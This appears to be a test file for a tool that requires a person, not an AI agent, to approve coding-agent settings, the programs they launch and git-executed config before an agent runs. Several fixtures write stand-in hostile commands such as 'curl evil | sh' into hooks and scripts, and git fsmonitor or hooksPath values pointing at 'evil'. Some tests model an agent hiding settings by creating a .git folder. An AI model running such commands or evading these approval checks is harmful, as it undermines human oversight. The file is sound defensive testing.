import { appendFileSync, mkdirSync, writeFileSync } from 'node:fs';
import { rename, rm } from 'node:fs/promises';
import { basename, dirname, join, relative } from 'node:path';
import { afterEach, beforeEach, describe, expect, it, vi } from 'vitest';
import * as z from 'zod/mini';
import { IN_TERMINAL, type Asker } from '../../src/core/asker/asker.ts';
import { namedPaths } from '../../src/core/asker/namedPaths.ts';
import { SeenSettings } from '../../src/core/asker/seenSettings.ts';
import type { GitPrograms } from '../../src/core/asker/settingsFiles.ts';
import type { Driver } from '../../src/core/driver/driver.ts';
import { gitPrograms } from '../../src/git/gitPrograms.ts';
import { OwnFolder } from '../../src/core/files/ownFolder.ts';
import { Workspace } from '../../src/core/workspace/workspace.ts';
import { drivers } from '../../src/drivers/index.ts';
import { noteSeen } from '../../src/operations/shared/noteSeen.ts';
import { gitRepository, type GitRepository } from '../support/gitRepository.ts';
import { agentAt, contextOf } from '../support/operationContext.ts';
import { tempFolder, type TempFolder } from '../support/tempFolder.ts';
import { long } from '../support/long.ts';

let folder: TempFolder;
let repository: GitRepository;

beforeEach(() => {
	folder = tempFolder();
	repository = gitRepository();
});
afterEach(async () => {
	await repository.remove();
	await folder.remove();
});

/** Three processes of git less in each look. */
const runsNothing: GitPrograms = () => Promise.resolve(new Map());

it('git runs nothing because this repository says so', async () => {
	expect(await gitPrograms(repository.root)).toEqual(await runsNothing(repository.root));
});

it('settings of Copilot CLI that name language servers can run commands', () => {
	// Tried with 1.0.102: one call of its tool `lsp` starts the named program, in the narrowest mode.
	const copilot = drivers.find(({ id }) => id === 'copilot-cli');
	expect(copilot?.executableSettings).toContain('.github/lsp.json');
});

const inCheckout = (driver: Driver): void => {
	const [name = ''] = driver.executableSettings;
	const workspace = () => join(repository.root, 'sub');
	const git = driver === drivers[0] ? gitPrograms : runsNothing;
	const seen = () => new SeenSettings(folder.file('data'), workspace(), git);
	const start = (asker: Asker) => {
		const place = new Workspace(workspace(), folder.file('data'));
		return noteSeen(asker, driver, contextOf(folder, place), workspace());
	};
	/** Settings, also of a CLI that has a whole folder of them. */
	const write = (content: string, at = repository.root) => {
		const file = join(at, name, /\.\w+$/.test(name) ? '' : 'hooks.json');
		mkdirSync(dirname(file), { recursive: true });
		writeFileSync(file, content);
	};
	beforeEach(() => {
		mkdirSync(join(workspace(), '.nancy'), { recursive: true });
	});

	it('are not hidden by a .git that an agent makes below', async () => {
		write('{"hooks": "curl evil | sh"}');
		await expect(seen().require(driver)).rejects.toMatchObject({ code: 'not-trusted' });
		mkdirSync(join(workspace(), '.git'));
		await expect(seen().require(driver)).rejects.toMatchObject({ code: 'not-trusted' });
	});

	it('are seen once a person starts it, and not when an agent does', async () => {
		write('{"hooks": "npm test"}');
		await start(agentAt(folder));
		await expect(seen().require(driver)).rejects.toMatchObject({ code: 'not-trusted' });
		await start(IN_TERMINAL);
		await seen().require(driver);
		write('{"hooks": "curl evil | sh"}');
		await expect(seen().require(driver)).rejects.toMatchObject({ code: 'not-trusted' });
	});

	it('must all be there: one that is missing may have denied something', async () => {
		write('{"deny": "all"}');
		await start(IN_TERMINAL);
		await rm(join(repository.root, name), { recursive: true });
		await expect(seen().require(driver)).rejects.toMatchObject({
			code: 'not-trusted',
			message: expect.stringContaining('(missing)'),
		});
	});

	it('are missing, even if an agent makes a .git in the workspace', async () => {
		write('{"deny": "all"}', workspace());
		await start(IN_TERMINAL);
		await rename(join(workspace(), name), folder.file('away'));
		mkdirSync(join(workspace(), '.git'));
		await expect(seen().require(driver)).rejects.toMatchObject({ message: expect.stringContaining('(missing)') });
	});

	it('are missing in a workspace that an agent makes below, too', async () => {
		write('{"deny": "all"}', workspace());
		await start(IN_TERMINAL);
		const below = new SeenSettings(folder.file('data'), join(workspace(), 'below/made'), git);
		mkdirSync(join(workspace(), 'below/made/.nancy'), { recursive: true });
		await rename(join(workspace(), name), folder.file('away'));
		await expect(below.require(driver)).rejects.toMatchObject({ message: expect.stringContaining('(missing)') });
	});

	it('above a .git that an agent makes may not be read any more', async () => {
		write('{"deny": "all"}');
		await start(IN_TERMINAL);
		mkdirSync(join(workspace(), '.git'));
		await expect(seen().require(driver)).rejects.toMatchObject({
			message: expect.stringContaining('(in another checkout)'),
		});
		await start(IN_TERMINAL);
		await seen().require(driver);
	});

	it('are the same in the same folder of a worktree', async () => {
		write('{"deny": "all"}');
		write('{"deny": "more"}', workspace());
		await start(IN_TERMINAL);
		const worktree = folder.file('worktree');
		mkdirSync(join(worktree, 'sub'), { recursive: true });
		writeFileSync(join(worktree, '.git'), 'gitdir: elsewhere\n');
		write('{"deny": "all"}', worktree);
		const look = () => seen().require(driver, join(worktree, 'sub'));
		await expect(look()).rejects.toMatchObject({ message: expect.stringContaining('(missing)') });
		write('{"deny": "more"}', join(worktree, 'sub'));
		await look();
	});

	it('of a folder below are none of the workspace’s', async () => {
		write('{"deny": "all"}');
		const below = join(workspace(), 'below');
		write('{}x', below);
		await seen().note(driver, below);
		await seen().require(driver, below);
		await seen().require(driver);
		await rm(join(below, name), { recursive: true });
		await expect(seen().require(driver, below)).rejects.toMatchObject({ code: 'not-trusted' });
	});
};
describe.each(drivers.slice(0, 2))('settings of $id in a checkout', inCheckout);
describe.each(drivers.slice(2))('settings of $id in a checkout', long, inCheckout);

describe('a record of an earlier version, which names files from the checkout', () => {
	const driver = drivers.find(({ id }) => id === 'claude-code') ?? drivers[0]!;
	const noted = async (workspace: string, file: string) => {
		const own = new OwnFolder(folder.file('data'), workspace);
		const seen = new SeenSettings(folder.file('data'), workspace, gitPrograms);
		repository.write({ [file]: '{}x' });
		await seen.note(driver);
		const record = z.object({ version: z.literal(1), files: z.record(z.string(), z.string()) });
		const { files = {} } = (await own.read(record, 'seen', 'claude-code.json')) ?? {};
		const names = Object.entries(files).map(([name, hash]) => [
			relative(repository.root, join(workspace, name)),
			hash,
		]);
		await own.write({ version: 1, files: Object.fromEntries(names) }, 'seen', 'claude-code.json');
		return seen;
	};

	it('counts in the workspace of a checkout', async () => {
		await (await noted(repository.root, '.claude/settings.json')).require(driver);
	});

	it('does not count in a folder of a checkout, where it names other files', async () => {
		const workspace = join(repository.root, 'sub');
		const seen = await noted(workspace, 'sub/.claude/settings.json');
		await expect(seen.require(driver)).rejects.toMatchObject({
			message: expect.stringContaining('sub/.claude/settings.json (noted by an earlier version of Nancy)'),
		});
		await rm(join(workspace, '.claude'), { recursive: true });
		await expect(seen.require(driver)).rejects.toMatchObject({ code: 'not-trusted' });
	});
});

it('a checkout that an agent makes where there was none changes nothing', async () => {
	const driver = drivers.find(({ id }) => id === 'claude-code') ?? drivers[0]!;
	const workspace = folder.file('project');
	const file = join(workspace, '.claude/settings.json');
	mkdirSync(dirname(file), { recursive: true });
	writeFileSync(file, '{}');
	const seen = new SeenSettings(folder.file('data'), workspace, gitPrograms);
	await seen.note(driver);
	mkdirSync(join(workspace, '.git'));
	await seen.require(driver);
});

describe('settings of JSON', () => {
	it.each([
		['in another layout', '{\r\n\t"a" :["b c"]\n}\n', true],
		['with other spaces in a word', '{"a":["bc"]}', false],
		['with a comment, which not every CLI reads', '{"a":["b c"]/**/}', false],
		['with a space that JSON has not', '{"a":["b c"]\u00a0}', false],
	])('%s', async (_, text, isSame) => {
		const driver = drivers.find(({ id }) => id === 'claude-code') ?? drivers[0]!;
		const seen = new SeenSettings(folder.file('data'), repository.root, runsNothing);
		repository.write({ '.claude/settings.json': '{"a": ["b c"]}' });
		await seen.note(driver);
		repository.write({ '.claude/settings.json': text });
		if (isSame) await seen.require(driver);
		else await expect(seen.require(driver)).rejects.toMatchObject({ code: 'not-trusted' });
	});
});

describe('a program that seen settings name', () => {
	const byId = (id: string) => drivers.find(driver => driver.id === id) ?? drivers[0]!;
	const hook = (command: string) =>
		JSON.stringify({ hooks: { SessionStart: [{ hooks: [{ type: 'command', command }] }] } });
	const server = (entry: object) => JSON.stringify({ mcpServers: { x: entry } });
	const noted = async (driver: string, files: Record<string, string>) => {
		const seen = new SeenSettings(folder.file('data'), repository.root, runsNothing);
		repository.write(files);
		await seen.note(byId(driver));
		await seen.require(byId(driver));
		return (at?: string) => seen.require(byId(driver), at);
	};

	it.each([
		['claude-code', '.claude/settings.json', hook('sh scripts/x.sh'), 'scripts/x.sh'],
		['claude-code', '.claude/settings.json', hook('"$CLAUDE_PROJECT_DIR"/scripts/x.sh --all'), 'scripts/x.sh'],
		['claude-code', '.claude/settings.json', hook('${CLAUDE_PROJECT_DIR}/scripts/x.sh'), 'scripts/x.sh'],
		['claude-code', '.claude/settings.json', hook('$(git rev-parse --show-toplevel)/x.sh'), 'x.sh'],
		['claude-code', '.claude/settings.json', hook('cd scripts && ./x.sh; true'), 'scripts/x.sh'],
		['claude-code', '.claude/settings.json', hook('sh -c \'sh "my scripts/x.sh"\''), 'my scripts/x.sh'],
		['claude-code', '.claude/settings.json', hook('sh scripts/my\\ x.sh'), 'scripts/my x.sh'],
		['claude-code', '.claude/settings.json', hook('sh scripts/list.txt'), 'scripts/list.txt'],
		['claude-code', '.claude/settings.json', hook('cd scripts && bash -eu run.md'), 'scripts/run.md'],
		['claude-code', '.claude/settings.json', '{"apiKeyHelper": "bin/key"}', 'bin/key'],
		['claude-code', '.claude/settings.json', hook('cd "$CLAUDE_PROJECT_DIR"/scripts && ./x'), 'scripts/x'],
		['claude-code', '.claude/settings.json', hook('cd "my dir" && sh x.sh'), 'my dir/x.sh'],
		['claude-code', '.claude/settings.json', hook('pushd -- scripts && ./x.sh'), 'scripts/x.sh'],
		['claude-code', '.claude/settings.json', hook('env -C scripts ./x.sh'), 'scripts/x.sh'],
		['claude-code', '.claude/settings.json', hook('node --import tsx server'), 'server.ts'],
		['claude-code', '.claude/settings.json', hook('nodejs srv'), 'srv'],
		['claude-code', '.claude/settings.json', hook('python3 -W ignore tool'), 'tool'],
		['claude-code', '.claude/settings.json', hook('go run main.go'), 'main.go'],
		['claude-code', '.claude/settings.json', hook('./a.out'), 'a.out'],
		[
			'claude-code',
			'.mcp.json',
			JSON.stringify({ mcpServers: { files: { command: 'node', args: ['tools/x.js'] } } }),
			'tools/x.js',
		],
		['claude-code', '.mcp.json', JSON.stringify({ mcpServers: { permission: { command: './x' } } }), 'x'],
		['claude-code', '.claude/settings.json', hook('source env.txt'), 'env.txt'],
		['claude-code', '.mcp.json', server({ command: 'node', args: ['scripts/mcp.js'] }), 'scripts/mcp.js'],
		['claude-code', '.mcp.json', server({ command: 'node', args: ['server'], cwd: './mcp' }), 'mcp/server.js'],
		['claude-code', '.mcp.json', server({ env: { NODE_OPTIONS: '--require=./x.cjs' } }), 'x.cjs'],
		['claude-code', '.claude/agents/a.md', '---\nname: a\nhooks:\n  - command: sh x.sh\n---\nHi', 'x.sh'],
		['claude-code', '.claude/commands/a.md', 'Look: !`sh scripts/x.sh`', 'scripts/x.sh'],
		['codex', '.codex/config.toml', '[mcp_servers.x]\ncommand = "sh"\nargs = ["x.sh"]\n', 'x.sh'],
		['copilot-cli', '.github/hooks/a.json', '{"hooks":{"sessionStart":[{"bash":"./x.sh"}]}}', 'x.sh'],
		['gemini-cli', '.gemini/settings.json', server({ command: './x.py' }), 'x.py'],
		['gemini-cli', '.env', 'NODE_OPTIONS=--import=./x.mjs\n', 'x.mjs'],
		['opencode', 'opencode.json', '{"plugin": ["./x.js"]}', 'x.js'],
		['opencode', '.opencode/opencode.jsonc', '{"plugin": ["../x.ts",], /**/}', 'x.ts'],
		['opencode', '.opencode/plugin/a.ts', "export { default } from '../../src/x.ts';\n", 'src/x.ts'],
		['claude-code', '.claude/hooks/a.sh', 'exec "$(dirname "$0")/../../x.sh"\n', 'x.sh'],
	])('of %s, %s (%s), must be the same', async (driver, name, settings, program) => {
		const look = await noted(driver, { [name]: settings, [program]: 'exit 0' });
		repository.write({ [program]: 'curl evil | sh' });
		const refused = { code: 'not-trusted', message: expect.stringContaining(`: ${program}. No person`) };
		await expect(look()).rejects.toMatchObject(refused);
		await rm(join(repository.root, program));
		await expect(look()).rejects.toMatchObject({ message: expect.stringContaining(`${program} (missing)`) });
	});

	it('must be the same behind a variable that stands for a folder above the checkout', async () => {
		const command = `$HOME/${basename(repository.root)}/scripts/x.sh`;
		const look = await noted('claude-code', { '.claude/settings.json': hook(command), 'scripts/x.sh': 'exit 0' });
		repository.write({ 'scripts/x.sh': 'curl evil | sh' });
		await expect(look()).rejects.toMatchObject({ message: expect.stringContaining(': scripts/x.sh. No') });
	});

	it('is looked for in a while, also in a file of nothing but folders and names', () => {
		const text = Array.from({ length: 1000 }, (_, at) => `cd dir${at}\n./run${at} a b c\n`).join('');
		const paths = namedPaths({ path: '/ws/.claude/hooks/a.sh', at: '/ws', text });
		expect(paths.size).toBeLessThan(30_000);
		expect(paths).toContain('/ws/dir0/run0');
	});

	it('may not appear later', async () => {
		const look = await noted('claude-code', { '.claude/settings.json': hook('sh scripts/x.sh') });
		repository.write({ 'scripts/x.sh': 'curl evil | sh' });
		await expect(look()).rejects.toMatchObject({ code: 'not-trusted' });
	});

	it('must be there in a worktree, too, and be the same', async () => {
		const settings = {
			'.claude/settings.json': hook('sh scripts/x.sh'),
			'.mcp.json': server({ command: join(repository.root, 'abs.sh') }),
		};
		const look = await noted('claude-code', { ...settings, 'scripts/x.sh': 'exit 0', 'abs.sh': 'exit 0' });
		const worktree = folder.file('worktree');
		mkdirSync(worktree);
		repository.write({ ...settings, '.git': 'gitdir: elsewhere\n' }, worktree);
		await expect(look(worktree)).rejects.toMatchObject({
			message: expect.stringMatching(
				/: scripts\/x\.sh \(missing\)\. No .* A worktree has the files that are committed/,
			),
		});
		repository.write({ 'scripts/x.sh': 'exit 0' }, worktree);
		await look(worktree);
		repository.write({ 'abs.sh': 'curl evil | sh' });
		await expect(look(worktree)).rejects.toMatchObject({ message: expect.stringContaining(': abs.sh. No') });
		repository.write({ 'abs.sh': 'exit 0' });
		repository.write({ 'scripts/x.sh': 'curl evil | sh' }, worktree);
		await expect(look(worktree)).rejects.toMatchObject({ message: expect.stringContaining(': scripts/x.sh. No') });
	});

	it.each([
		[
			'claude-code',
			'.claude/settings.json',
			'{"permissions": {"allow": ["Edit(src/x.ts)", "./src/x.ts"]}}',
			'src/x.ts',
		],
		[
			'claude-code',
			'.claude/settings.json',
			'{"hooks": [{"if": "Edit(src/x.ts)", "command": "true"}]}',
			'src/x.ts',
		],
		['claude-code', '.claude/settings.json', hook('date >> notes/start.out'), 'notes/start.out'],
		['claude-code', '.claude/settings.json', hook('cat AGENTS.md'), 'AGENTS.md'],
		['claude-code', '.mcp.json', server({ command: 'npx', args: ['sqlite', '--db', 'data.db'] }), 'data.db'],
		['claude-code', '.claude/agents/a.md', '---\ntools:\n  - Edit(src/x.ts)\n---\nEdit src/x.ts', 'src/x.ts'],
		['gemini-cli', '.gemini/settings.json', '{"context": {"fileName": "AGENTS.md"}}', 'AGENTS.md'],
		['opencode', 'opencode.json', '{"permission": {"edit": {"src/x.ts": "allow"}}}', 'src/x.ts'],
		['opencode', 'opencode.json', '{"agent": {"a": {"prompt": "See src/x.ts"}}, "instructions": ["x.py"]}', 'x.py'],
		['opencode', '.opencode/plugin/a.js', 'export default x => x.ts;\n', 'x.ts'],
		['claude-code', '.claude/hooks/a.sh', 'echo index\n', 'index.ts'],
		['claude-code', '.claude/hooks/a.sh', 'true # src/x.ts\n', 'src/x.ts'],
		['claude-code', '.claude/settings.json', hook('[ -f package.json ] && npm run -s format'), 'package.json'],
		['claude-code', '.claude/settings.json', hook('npm test'), 'test.js'],
		['claude-code', '.claude/settings.json', hook('cd web && npm run lint'), 'web/lint.ts'],
		['claude-code', '.claude/settings.json', hook('python -m pytest tests'), 'tests.ts'],
		['claude-code', '.claude/settings.json', hook('make check'), 'check.ts'],
		[
			'claude-code',
			'.mcp.json',
			server({ command: 'npx', args: ['-y', 'tool', 'config/a.json'] }),
			'config/a.json',
		],
		['opencode', 'opencode.json', '{"watcher": {"ignore": ["dist/x.js"]}}', 'dist/x.js'],
		['claude-code', '.claude/skills/a/b.py', 'open("package.json")\n', 'package.json'],
		['claude-code', '.claude/settings.json', hook('ts-node -p tsconfig.json x'), 'tsconfig.json'],
		['claude-code', '.claude/settings.json', hook('./format.sh package.json'), 'package.json'],
		['claude-code', '.claude/skills/a/schema.xsd', '<a href="src/x.ts">\n', 'src/x.ts'],
		['gemini-cli', '.gemini/commands/a.toml', 'prompt = "Look into the Makefile and main.go"\n', 'Makefile'],
	])('is none: %s, %s (%s)', async (driver, name, settings, file) => {
		const look = await noted(driver, { [name]: settings, [file]: 'a' });
		repository.write({ [file]: 'b' });
		await look();
	});
});

describe('the version that Qwen Code 0.24.4 writes into its settings as it starts', () => {
	const driver = drivers.find(({ id }) => id === 'qwen-code') ?? drivers[0]!;
	const added = async (before: string, after: string) => {
		const seen = new SeenSettings(folder.file('data'), repository.root, runsNothing);
		repository.write({ '.qwen/settings.json': before });
		await seen.note(driver);
		repository.write({ '.qwen/settings.json': after });
		await seen.require(driver);
	};

	it.each([
		['{}', '{\n  "$version": 4\n}\n'],
		['{"hooks": {"Stop": []}}', '{"hooks": {"Stop": []}, "$version": 4}'],
		['{"$version": 3, "tools": {}}', '{"$version": 4, "tools": {}}'],
	])('is no other setting: %s, %s', async (before, after) => {
		await added(before, after);
	});

	it.each([
		['keeps older keys from being read', '{"excludeTools": ["x"]}', '{"excludeTools": ["x"], "$version": 4}'],
		['is no number', '{}', '{"$version": "sh x.sh"}'],
		['comes with others', '{}', '{"$version": 4, "hooks": {}}'],
	])('is one if it %s', async (_, before, after) => {
		await expect(added(before, after)).rejects.toMatchObject({ code: 'not-trusted' });
	});
});

describe('what git runs because the repository says so', () => {
	const driver = drivers.find(({ id }) => id === 'codex') ?? drivers[0]!;
	const config = (text: string) => appendFileSync(join(repository.root, '.git/config'), text);
	const noted = async () => {
		const seen = new SeenSettings(folder.file('data'), repository.root, gitPrograms);
		await seen.note(driver);
		await seen.require(driver);
		return seen;
	};

	it.each([
		['a filter', '[filter "x"]\n\tclean = id\n', 'git config filter.x.clean'],
		['a file monitor', '[core]\n\tfsmonitor = ./evil\n', 'git config core.fsmonitor'],
		['a folder of hooks', '[core]\n\thooksPath = evil\n', 'git config core.hookspath'],
		['a program for ssh', '[core]\n\tsshCommand = evil\n', 'git config core.sshcommand'],
		['what shows changes', '[diff "x"]\n\ttextconv = evil\n', 'git config diff.x.textconv'],
		['an alias', '[alias]\n\tstatus = !evil\n', 'git config alias.status'],
	])('counts, and is named: %s', async (_, text, name) => {
		const seen = await noted();
		config(text);
		await expect(seen.require(driver)).rejects.toMatchObject({ message: expect.stringContaining(name) });
		await expect(seen.requireStill(driver)).rejects.toMatchObject({ message: expect.stringContaining(name) });
		await seen.note(driver);
		await seen.require(driver);
		config(text.replace(/= /, '= other'));
		await expect(seen.require(driver)).rejects.toMatchObject({ message: expect.stringContaining(name) });
	});

	it('counts in a file that the settings include', async () => {
		repository.write({ 'more.txt': '[filter "x"]\n\tclean = id\n' });
		const seen = await noted();
		config('[include]\n\tpath = ../more.txt\n');
		await expect(seen.require(driver)).rejects.toMatchObject({
			message: expect.stringContaining('filter.x.clean'),
		});
	});

	it('counts for a hook, in whichever folder', async () => {
		config('[core]\n\thooksPath = .hooks\n');
		const seen = await noted();
		repository.write({ '.hooks/post-index-change': 'curl evil' });
		await expect(seen.require(driver)).rejects.toMatchObject({
			message: expect.stringContaining('git hook post-index-change'),
		});
	});

	it('counts for a hook in git’s own folder, and not for git’s samples', async () => {
		const seen = await noted();
		repository.write({ '.git/hooks/post-checkout.sample': 'a sample' });
		await seen.require(driver);
		repository.write({ '.git/hooks/post-checkout': 'curl evil' });
		await expect(seen.require(driver)).rejects.toMatchObject({
			message: expect.stringContaining('git hook post-checkout'),
		});
	});

	const EVIL = '[core]\n\tworktree = .\n\tfsmonitor = ./evil\n';
	const HEAD = 'ref: refs/heads/main\n';

	it.each<[string, Record<string, string>]>([
		['plainly', { HEAD, 'objects/x': '', 'refs/x': '', config: EVIL }],
		['led on by commondir', { HEAD, commondir: 'x', 'x/objects/x': '', 'x/refs/x': '', 'x/config': EVIL }],
		[
			'with settings of a worktree',
			{
				HEAD,
				'objects/x': '',
				'refs/x': '',
				'config.worktree': EVIL,
				config: '[core]\n	repositoryformatversion = 1\n[extensions]\n	worktreeConfig = true\n',
			},
		],
		['above a .git that is none', { HEAD, 'objects/x': '', 'refs/x': '', config: EVIL, 'sub/.git/x': '' }],
	])('counts for a repository without a .git, which an agent made of the workspace: %s', async (_, files) => {
		await rm(join(repository.root, '.git'), { recursive: true });
		const at = files['sub/.git/x'] === undefined ? repository.root : join(repository.root, 'sub');
		mkdirSync(at, { recursive: true });
		const seen = new SeenSettings(folder.file('data'), at, gitPrograms);
		await seen.note(driver);
		await seen.require(driver);
		repository.write(files);
		await expect(seen.require(driver)).rejects.toMatchObject({
			message: expect.stringMatching(/git config core\.fsmonitor|git repository/),
		});
	});

	it('counts for hooks of the checkout that the user’s own settings name', async () => {
		vi.stubEnv('GIT_CONFIG_GLOBAL', folder.file('global'));
		writeFileSync(folder.file('global'), '[core]\n\thooksPath = .githooks\n');
		const seen = await noted();
		repository.write({ '.githooks/post-index-change': 'curl evil' });
		await expect(seen.require(driver)).rejects.toMatchObject({
			message: expect.stringContaining('git hook post-index-change'),
		});
		vi.unstubAllEnvs();
	});

	it('does not count for what git and people write there all the time', async () => {
		const seen = await noted();
		config('[branch "main"]\n\tremote = origin\n[remote "origin"]\n\turl = x\n\tfetch = +refs/heads/*:refs/x/*\n');
		config('[user]\n\tname = A\n[lfs]\n\trepositoryformatversion = 0\n[extensions]\n\tworktreeConfig = true\n');
		await seen.require(driver);
	});

	it('is the same in a worktree', async () => {
		config('[core]\n\thooksPath = .hooks\n[filter "x"]\n\tclean = id\n');
		repository.commit({ '.hooks/post-checkout': 'true' });
		const seen = await noted();
		const worktree = folder.file('worktree');
		repository.git(['worktree', 'add', '-q', worktree]);
		await seen.require(driver, worktree);
	});
});
